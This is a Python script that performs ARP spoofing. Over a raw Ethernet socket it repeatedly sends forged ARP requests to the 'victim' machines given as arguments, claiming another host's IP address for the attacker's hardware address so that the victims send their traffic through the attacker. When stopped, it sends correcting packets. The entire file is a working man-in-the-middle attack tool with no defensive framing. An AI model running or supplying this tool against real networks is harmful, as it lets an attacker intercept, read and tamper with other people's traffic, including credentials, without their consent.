"""Send false ARP packets until the program is terminated. Arguments: VICTIM OTHER ...

The victim then sends its packets for the other machine to this one. ARP has no authentication: a
victim believes any sender. At the end, the victims get the true address.
"""

from __future__ import annotations

import signal
import socket
import sys
import threading
import time
from collections.abc import Sequence
from pathlib import Path

LINK = "eth0"
#: Seconds between two packets: the other machine's own packets correct the table again.
PAUSE = 0.3
#: The Ethernet type of ARP; then Ethernet, IPv4, the lengths of their addresses, "request".
HEAD = bytes.fromhex("08060001080006040001")
#: Packets with the true address at the end: one may be lost.
CORRECTIONS = 3
UNKNOWN = "00:00:00:00:00:00"


def frame(own: bytes, to: bytes, victim: str, other: str, at: bytes = b"") -> bytes:
    """Return an ARP request to a victim that claims the other machine's address for this one.

    Parameters
    ----------
    own, to : bytes
        The hardware addresses of this machine and of the victim.
    victim, other : str
        The IPv4 addresses of the victim and of the other machine.
    at : bytes
        The hardware address to claim for the other machine; by default this machine's own.
    """
    said = (at or own) + socket.inet_aton(other) + bytes(6) + socket.inet_aton(victim)
    return to + own + HEAD + said


def hardware_address(text: str) -> bytes:
    """Return the bytes of a hardware address.

    Examples
    --------
    >>> hardware_address("02:42:0a:00:00:01").hex()
    '02420a000001'
    """
    return bytes.fromhex(text.strip().replace(":", ""))


def known(table: str, address: str) -> bytes | None:
    """Return the hardware address of an IPv4 address in the kernel's ARP table, or None."""
    for line in table.splitlines():
        fields = line.split()
        if fields[0] == address and fields[3] != UNKNOWN:
            return hardware_address(fields[3])
    return None


def owner(address: str) -> bytes:
    """Return the hardware address of an IPv4 address; make the kernel ask until it is known."""
    while True:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.sendto(b"", (address, 9))
        if found := known(Path("/proc/net/arp").read_text(), address):
            return found
        time.sleep(0.05)


def pairs(addresses: Sequence[str]) -> list[tuple[str, str]]:
    """Return pairs of a victim's address and the other machine's address."""
    return list(zip(addresses[::2], addresses[1::2], strict=True))


def main() -> None:
    """Send false packets until the program is terminated, then true ones."""
    ended = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: ended.set())
    own = hardware_address(Path(f"/sys/class/net/{LINK}/address").read_text())
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((LINK, 0))
    victims = pairs(sys.argv[1:])
    true = {address: owner(address) for address in sys.argv[1:]}
    while not ended.is_set():
        for victim, other in victims:
            link.send(frame(own, true[victim], victim, other))
        ended.wait(PAUSE)
    for _ in range(CORRECTIONS):
        for victim, other in victims:
            link.send(frame(own, true[victim], victim, other, true[other]))
        time.sleep(0.05)


if __name__ == "__main__":
    main()
